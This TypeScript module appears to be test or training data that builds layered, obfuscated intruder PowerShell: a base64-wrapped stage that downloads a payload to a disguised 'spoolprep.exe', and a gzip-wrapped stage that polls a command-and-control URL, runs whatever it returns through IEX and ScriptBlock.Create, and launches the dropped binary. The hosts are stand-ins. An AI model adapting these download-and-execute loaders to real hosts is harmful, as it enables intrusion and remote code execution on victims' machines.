/**
 * What the intruder's PowerShell says, layer by layer. All of it is inert: the domain is reserved and the address is a
 * documentation one.
 */
export const INNER_SCRIPT = [
  "$c='198.51.100.77'",
  "$u='https://cdn.harborlight.example/updates/stage2.bin'",
  "$p='C:\\ProgramData\\PrintCache\\spoolprep.exe'",
  "New-Item -ItemType Directory -Force 'C:\\ProgramData\\PrintCache' | Out-Null",
  '(New-Object Net.WebClient).DownloadFile($u,$p)',
  'Test-NetConnection $c -Port 443 | Out-Null',
].join(';');

export const OUTER_SCRIPT = `$d='${Buffer.from(INNER_SCRIPT, 'utf8').toString('base64')}';IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d)))`;

export const COMPRESSED_SCRIPT = [
  "$a='198.51.100.77';$q='http://198.51.100.77/api/v2/checkin?id=WEB01'",
  '$w=New-Object Net.WebClient',
  "$w.Headers.Add('X-Session','b41f')",
  '$r=$w.DownloadString($q)',
  'if($r){Invoke-Command -ScriptBlock ([ScriptBlock]::Create($r))}',
  "Start-Process 'C:\\ProgramData\\PrintCache\\spoolprep.exe' -ArgumentList '-k cdn.harborlight.example'",
  '',
].join('\n');

/** `COMPRESSED_SCRIPT` through gzip: kept as bytes because compressors differ between releases of Node. */
export const COMPRESSED_BASE64 =
  'H4sIAAAAAAACA1VPUUvDMBh876/IQyEtmHQVZVopsnWCgkyhDxOcD2nyrY1tkyz9XAXxvxvf9O2Ou+PuYlHS/PqKX+Y8Xyz4cklv4mNJO0RXZNk/JRNOZ6fzTHYge21utSp3d+tFTqN4Lrcws6fmHSSSLSDfQVMNGgwGjd+DUOAnvlIqoS+shmnS1tAz2lzkB5pGsS+Da2NnM1ihavTatEl8TCN9SGKffj2Yk+2BVXYchVGE1dJrh+vByp4kr3/YW1FUHgTCbyz9jmoUHtmztzJUEloV+4BbL8aNQBGwNliJcGc/OWsH58Fx+ARK2Mq3H2NY/6gnJJT1RCrDO+Eb6wfddhhsYnQD0OgHOLRqckABAAA=';

export const COMPRESSED_OUTER_SCRIPT = `$z='${COMPRESSED_BASE64}';$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String($z));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;

/** As `powershell.exe -EncodedCommand` takes it. */
export function encodeCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}
